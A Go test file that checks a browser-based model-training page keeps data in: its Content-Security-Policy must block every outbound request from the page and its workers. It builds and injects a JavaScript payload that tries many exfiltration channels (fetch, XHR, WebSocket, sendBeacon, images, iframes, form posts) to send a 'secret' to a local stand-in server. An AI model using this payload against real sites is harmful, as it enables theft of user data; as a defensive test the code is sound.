package pagetest

import (
	"fmt"
	"net/http"
	"net/http/httptest"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"
)

// outside is a server that data could be sent to. It remembers who reached it.
type outside struct {
	*httptest.Server
	mu      sync.Mutex
	reached []string
}

func newOutside(t *testing.T) *outside {
	o := &outside{}
	o.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		o.mu.Lock()
		o.reached = append(o.reached, r.URL.Path)
		o.mu.Unlock()
		w.Header().Set("Access-Control-Allow-Origin", "*") // it would love to be told
		w.Header().Set("Content-Type", "text/javascript")
	}))
	t.Cleanup(o.Close)
	return o
}

func (o *outside) list() []string {
	o.mu.Lock()
	defer o.mu.Unlock()
	return slices.Clone(o.reached)
}

// attempts is a script that tries every way out that a policy can close and then tells the site, which it may, that it
// has run. who names the place it runs in.
func (s *site) attempts(o *outside, who string) string {
	return fmt.Sprintf(`(async () => {
		const to = (way) => %s + "/" + %s + "/" + way;
		const ways = {
			fetch: () => fetch(to("fetch"), { mode: "no-cors", method: "POST", body: "secret" }),
			xhr: () => { const x = new XMLHttpRequest(); x.open("POST", to("xhr")); x.send("secret"); },
			socket: () => new WebSocket(to("socket").replace("http", "ws")),
			events: () => new EventSource(to("events")),
			worker: () => new Worker(to("worker")),
			imports: () => importScripts(to("imports")),
			module: () => import(to("module")),
			beacon: () => navigator.sendBeacon(to("beacon"), "secret"),
			image: () => { new Image().src = to("image"); },
			script: () => document.head.append(Object.assign(document.createElement("script"), { src: to("script") })),
			style: () => document.head.append(Object.assign(document.createElement("link"), { rel: "stylesheet", href: to("style") })),
			prefetch: () => document.head.append(Object.assign(document.createElement("link"), { rel: "prefetch", href: to("prefetch") })),
			frame: () => document.body.append(Object.assign(document.createElement("iframe"), { src: to("frame") })),
			media: () => { new Audio(to("media")).load(); },
			font: () => new FontFace("f", "url(" + to("font") + ")").load(),
			form: () => { const f = document.createElement("form"); f.action = to("form"); f.method = "post"; f.target = "out"; document.body.append(f); f.submit(); },
		};
		for (const way of Object.values(ways)) try { await Promise.race([way(), new Promise((go) => setTimeout(go, 300))]); } catch {}
		await fetch(%s + "ran/" + %s).catch(() => {});
		return true;
	})()`, quote(o.URL), quote(who), quote(s.folder()), quote(who))
}

// tryFrom makes the page, its trainer, its compute workers and the reader of own files try to reach the outside, and waits until all have tried.
func (s *site) tryFrom(t *testing.T, o *outside, change func(path string, body []byte) []byte) {
	t.Helper()
	s.change = func(path string, body []byte) []byte {
		if strings.HasPrefix(path, "assets/trainer.") && strings.HasSuffix(path, ".js") {
			body = append(body, "\n"+s.attempts(o, "trainer")...)
		}
		if strings.HasPrefix(path, "assets/program.") && strings.HasSuffix(path, ".js") {
			body = append(body, "\n"+s.attempts(o, "intake")...)
		}
		if strings.HasPrefix(path, "assets/compute.") {
			body = append(body, "\n"+s.attempts(o, "compute")...)
		}
		return change(path, body)
	}
	p := openWhole(t, s.page("#data=digits&model=logistic&epochs=20&workers=1"))
	p.start()
	p.drop(writeFile(t, filepath.Join(t.TempDir(), "people.csv"), people(20)))
	eval[bool](p, s.attempts(o, "page"))
	for _, who := range []string{"page", "trainer", "compute", "intake"} {
		p.wait(who+" to try", fmt.Sprintf(`fetch(%s).then((r) => r.json()).then((l) => l.includes(%s))`, quote(s.page("ran")), quote("ran/"+who)))
	}
}

// On a host that sends no headers, the policy in the page alone must hold: for the page and for every worker.
func TestNothingLeaves(t *testing.T) {
	t.Parallel()
	s, o := serve(t), newOutside(t)
	s.tryFrom(t, o, func(_ string, body []byte) []byte { return body })
	if reached := o.list(); len(reached) > 0 {
		t.Errorf("reached the outside: %v", reached)
	}
}

var metaPolicy = regexp.MustCompile(`<meta http-equiv="Content-Security-Policy"[^>]*>`)

// The same attempts do reach the outside from a page without its policy: the test above can fail.
func TestAttemptsReachWithoutPolicy(t *testing.T) {
	long(t)
	t.Parallel()
	s, o := serve(t), newOutside(t)
	s.tryFrom(t, o, func(path string, body []byte) []byte {
		if strings.HasSuffix(path, ".html") {
			return metaPolicy.ReplaceAll(body, nil)
		}
		return body
	})
	for _, way := range []string{"/page/fetch", "/page/image", "/page/form", "/trainer/fetch", "/trainer/imports", "/compute/fetch", "/compute/xhr", "/intake/fetch"} {
		for deadline := time.Now().Add(patience); !slices.Contains(o.list(), way); time.Sleep(50 * time.Millisecond) {
			if time.Now().After(deadline) {
				t.Fatalf("%s did not reach the outside; only %v did", way, o.list())
			}
		}
	}
}

// Once the data is there, a run asks for nothing at all.
func TestTrainsOffline(t *testing.T) {
	long(t)
	t.Parallel()
	s := serve(t)
	p := openWhole(t, s.page("#data=digits&model=logistic&epochs=3"))
	p.wait("the data", dataReady)
	p.wait("the site to be kept", kept)
	loaded, _ := s.requests(0)
	p.click("train")
	p.wait("the end", state+` === "done"`)
	if _, after := s.requests(loaded); len(after) > 0 {
		t.Errorf("requests after the data was loaded: %v", after)
	}
	p.clean()
}
